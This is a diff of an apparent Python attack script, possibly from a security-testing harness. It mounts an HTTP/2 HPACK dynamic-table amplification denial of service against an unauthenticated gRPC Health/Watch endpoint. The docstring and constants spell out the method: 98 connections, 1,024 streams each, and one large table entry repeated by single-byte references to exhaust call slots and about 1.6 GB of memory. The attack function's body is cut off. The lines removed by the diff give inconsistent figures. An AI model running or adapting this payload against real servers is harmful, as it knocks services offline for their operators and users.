@@ -1,6 +1,6 @@
-"""Health/Watch needs no token: 98 connections open 1,024 streams each, with headers of 16 KiB that
-come from one entry of HPACK's dynamic table. These 2.2 MB would take every place for calls, and
-1.7 GB of memory.
+"""Health/Watch needs no token: 98 connections open 1,024 streams each, with headers of 16 KB that
+come from one entry of HPACK's dynamic table. Without limits, these 16 MB would take every place for
+calls, and 1.6 GB of memory.
 """
 
 from attacker import frame, http2, literal, text
@@ -8,7 +8,7 @@ from attacker import frame, http2, literal, text
 CONNECTIONS, STREAMS = 98, 1024
 HEAD = http2.request_headers(b"/grpc.health.v1.Health/Watch")
 LARGE = b"\x40\x01x" + text(b"y" * 3900)  # becomes entry 62 of the table
-AGAIN = b"\xbe" * 3  # each has this size again
+AGAIN = b"\xbe" * 3  # each byte is that entry again
 
 
 def attack(attacker):
